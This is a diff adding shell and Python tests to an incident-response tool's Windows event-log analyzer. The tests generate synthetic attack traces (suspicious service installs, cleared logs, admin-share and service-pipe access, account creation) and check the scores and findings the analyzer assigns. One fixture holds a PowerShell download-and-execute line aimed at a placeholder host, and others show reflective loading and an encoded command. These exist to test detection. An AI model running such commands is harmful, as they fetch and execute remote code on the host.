@@ -106,3 +106,124 @@ q() { sqlite3 "$1" "$2"; }
 	  "$(evtxexport -f xml "$SCRATCH/t.evtx" 2>/dev/null | grep -c '<Event xmlns')" ]
 	[ "$(q "$SCRATCH/h.db" "SELECT count(*) FROM win_events WHERE path = '$LOGS/garbage.evtx'")" = 0 ]
 }
+
+# win_event records (JSONL) for events the sample logs lack, one per
+# line as tests/gen's python prints them from "id provider channel
+# event_id minutes data" tuples.
+records() {
+	python3 - "$@" <<'PY'
+import json, sys
+SEC = "Microsoft-Windows-Security-Auditing"
+TS = "Microsoft-Windows-TaskScheduler/Operational"
+T0 = 1600000000000000
+rows = {
+ "a": [
+  ("Service Control Manager", "System", 7045, 1, {"ServiceName": "upd", "ImagePath": "cmd.exe /c C:\\Users\\Public\\x.bat"}),
+  ("Service Control Manager", "System", 7045, 2, {"ServiceName": "fine", "ImagePath": "C:\\Windows\\system32\\svchost.exe -k netsvcs"}),
+  ("Service Control Manager", "System", 7045, 3, {"ServiceName": "drv", "ImagePath": "\\SystemRoot\\System32\\drivers\\ok.sys"}),
+  ("Service Control Manager", "System", 7045, 4, {"ServiceName": "agent", "ImagePath": "D:\\tools\\agent.exe"}),
+  (SEC, "Security", 4697, 5, {"ServiceName": "evil", "ServiceFileName": "C:\\ProgramData\\svc\\evil.exe", "SubjectUserName": "eve"}),
+  ("Microsoft-Windows-Eventlog", "Security", 1102, 6, {"SubjectUserName": "eve", "SubjectDomainName": "CORP"}),
+  ("Microsoft-Windows-Eventlog", "System", 104, 7, {"SubjectUserName": "eve", "Channel": "Application"}),
+  (SEC, "Security", 4719, 8, {"SubjectUserName": "eve", "SubcategoryId": "%%12544", "AuditPolicyChanges": "%%8448"}),
+  (SEC, "Security", 4624, 9, {"LogonType": "10", "IpAddress": "10.9.8.7", "TargetUserName": "bob"}),
+  (SEC, "Security", 4624, 10, {"LogonType": "10", "IpAddress": "10.9.8.7", "TargetUserName": "bob"}),
+  (SEC, "Security", 4624, 11, {"LogonType": "3", "IpAddress": "10.1.1.1", "TargetUserName": "svc"}),
+  (SEC, "Security", 4624, 12, {"LogonType": "3", "IpAddress": "-", "WorkstationName": "", "TargetUserName": "x"}),
+  (SEC, "Security", 4624, 13, {"LogonType": "2", "IpAddress": "10.5.5.5", "TargetUserName": "y"}),
+  (SEC, "Security", 4648, 14, {"SubjectUserName": "bob", "TargetUserName": "admin", "TargetServerName": "FS01"}),
+  (SEC, "Security", 4648, 15, {"SubjectUserName": "bob", "TargetUserName": "bob", "TargetServerName": "localhost"}),
+  (SEC, "Security", 4698, 16, {"TaskName": "\\Updater", "SubjectUserName": "eve"}),
+  (SEC, "Security", 4702, 20, {"TaskName": "\\Microsoft\\Windows\\EventCacheManager", "SubjectUserName": "eve"}),
+  (SEC, "Security", 4702, 50, {"TaskName": "\\Microsoft\\Windows\\EventCacheManager", "SubjectUserName": "eve"}),
+  ("Microsoft-Windows-TaskScheduler", TS, 141, 51, {"TaskName": "\\Old", "UserName": "eve"}),
+  (SEC, "Security", 4720, 52, {"TargetUserName": "helpdesk2", "TargetDomainName": "CORP", "SubjectUserName": "eve"}),
+  (SEC, "Security", 4732, 53, {"TargetUserName": "Administrators", "TargetSid": "S-1-5-32-544", "MemberSid": "S-1-5-21-1-2-3-1105", "MemberName": "-", "SubjectUserName": "eve"}),
+  (SEC, "Security", 4732, 54, {"TargetUserName": "Users", "TargetSid": "S-1-5-32-545", "MemberSid": "S-1-5-21-1-2-3-1106", "SubjectUserName": "eve"}),
+  (SEC, "Security", 5140, 55, {"ShareName": "\\\\*\\ADMIN$", "IpAddress": "10.9.8.7", "SubjectUserName": "bob"}),
+  (SEC, "Security", 5145, 56, {"ShareName": "\\\\*\\IPC$", "RelativeTargetName": "svcctl", "IpAddress": "10.9.8.7", "SubjectUserName": "bob"}),
+  (SEC, "Security", 5145, 57, {"ShareName": "\\\\*\\IPC$", "RelativeTargetName": "RENAMED-WS1-1234-stdin", "IpAddress": "10.9.8.7", "SubjectUserName": "bob"}),
+  (SEC, "Security", 5140, 58, {"ShareName": "\\\\*\\SYSVOL", "IpAddress": "10.9.8.7", "SubjectUserName": "bob"}),
+  (SEC, "Security", 5140, 59, {"ShareName": "\\\\*\\IPC$", "IpAddress": "10.9.8.7", "SubjectUserName": "bob"}),
+  ("Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational", 4104, 60, {"ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"}),
+  ("Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational", 4104, 61, {"ScriptBlockText": "Get-Process"}),
+  ("Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational", 4104, 62, {"ScriptBlockText": "[System.Reflection.Assembly]::Load($b)"}),
+  ("PowerShell", "Windows PowerShell", 400, 63, {"Data1": "Available", "Data3": "HostApplication=powershell.exe -enc SQBFAFgA"}),
+  (SEC, "Application", 1102, 64, {"SubjectUserName": "not the Eventlog provider"}),
+ ],
+ "b": [
+  (SEC, "Security", 4624, 1, {"LogonType": "3", "IpAddress": "10.1.1.1", "TargetUserName": "svc"}),
+ ],
+}
+for i, (prov, chan, eid, mins, data) in enumerate(rows[sys.argv[1]]):
+    print(json.dumps({"type": "win_event", "path": "/x/%s.evtx" % chan.replace("/", "%4"),
+        "channel": chan, "provider": prov, "event_id": eid, "record_id": 100 + i,
+        "ts": T0 + mins * 60000000, "computer": "WS-" + sys.argv[1].upper(),
+        "data": data, "recovered": False}))
+PY
+}
+
+# An irkit archive of an empty root with records() of $1 added.
+archive_with() {
+	mkdir -p "$SCRATCH/root/etc" "$SCRATCH/out$1"
+	"$COLLECT" -q --root "$SCRATCH/root" --only preload -o "$SCRATCH/out$1"
+	records "$1" >"$SCRATCH/$1.jsonl"
+	python3 "$IRKIT_SRC"/tests/e2e/evtx_archive.py "$(archive_in "$SCRATCH/out$1")" \
+		"$SCRATCH/$1.tar.zst" "$SCRATCH/$1.jsonl"
+}
+
+@test "evtx: findings: odd services, logs cleared, audit policy, new remote sources, tasks changed and restored, accounts, admin shares, PowerShell" {
+	archive_with b
+	archive_with a
+	run "$ANALYZE" ingest --db "$SCRATCH/f.db" "$SCRATCH/b.tar.zst"
+	[ "$status" -eq 0 ]
+	run "$ANALYZE" ingest --db "$SCRATCH/f.db" "$SCRATCH/a.tar.zst"
+	[ "$status" -eq 0 ]
+	run q "$SCRATCH/f.db" "SELECT f.score || ' ' || f.title FROM findings f JOIN evidence e ON e.id = f.evidence_id WHERE f.category = 'windows-events' AND e.path LIKE '%a.tar.zst' ORDER BY f.ts, f.title"
+	diff -u - <(printf '%s\n' "$output") <<'WANT'
+90 service installed: upd
+30 service installed: agent
+90 service installed: evil
+80 the security log was cleared
+80 the Application log was cleared
+50 audit policy changed
+30 RDP logon from 10.9.8.7
+30 explicit credentials for admin to FS01
+40 scheduled task created: \Updater
+80 scheduled task updated: \Microsoft\Windows\EventCacheManager
+40 scheduled task updated: \Microsoft\Windows\EventCacheManager
+40 scheduled task deleted: \Old
+40 account created: CORP\helpdesk2
+60 added to Administrators: S-1-5-21-1-2-3-1105
+60 admin share \\*\ADMIN$ from 10.9.8.7
+60 service control pipe svcctl from 10.9.8.7
+60 service control pipe RENAMED-WS1-1234-stdin from 10.9.8.7
+70 PowerShell download
+70 PowerShell reflection
+70 PowerShell encoded command
+WANT
+	# the reasons say why
+	run q "$SCRATCH/f.db" "SELECT reasons FROM findings WHERE title = 'service installed: upd'"
+	[[ "$output" == *"runs cmd"*"outside the system folders"* ]]
+	run q "$SCRATCH/f.db" "SELECT reasons FROM findings WHERE score = 80 AND title LIKE 'scheduled task updated:%'"
+	[[ "$output" == *"updated again 30 minutes later"* ]]
+	# the first collection's source was new then
+	[ "$(q "$SCRATCH/f.db" "SELECT count(*) FROM findings WHERE title = 'network logon from 10.1.1.1'")" = 1 ]
+}
+
+@test "evtx: findings on the sample logs: the account created, Administrators members, explicit credentials; no driver service" {
+	[ -e "$EIMG/ntfs.raw" ] || skip "ntfs-3g could not mount here"
+	run q "$EIMG/ntfs.db" "SELECT score || ' ' || title FROM findings WHERE category = 'windows-events' ORDER BY ts, title"
+	diff -u - <(printf '%s\n' "$output") <<'WANT'
+40 account created: GREENDALEGOLD\gold_administrator
+60 added to Administrators: S-1-5-21-1539974973-2753941131-3212641383-1000
+30 explicit credentials for administrator to DC1.internal.greendale.edu
+60 added to Administrators: S-1-5-21-226059406-2984137831-1201299043-512
+30 explicit credentials for administrator to DC1
+WANT
+	# the oracle: evtxexport's 7045 image paths all under system32
+	evtxexport -f xml "$DATA/System.evtx" 2>/dev/null | grep -A25 '>7045</EventID>' |
+		grep -A2 'Name="ServiceName"' | sed -n 's/.*<Data Name="ImagePath">\(.*\)<\/Data>.*/\1/p' >"$SCRATCH/paths"
+	[ "$(wc -l <"$SCRATCH/paths")" -eq 12 ]
+	! grep -vi '^system32\\' "$SCRATCH/paths"
+}
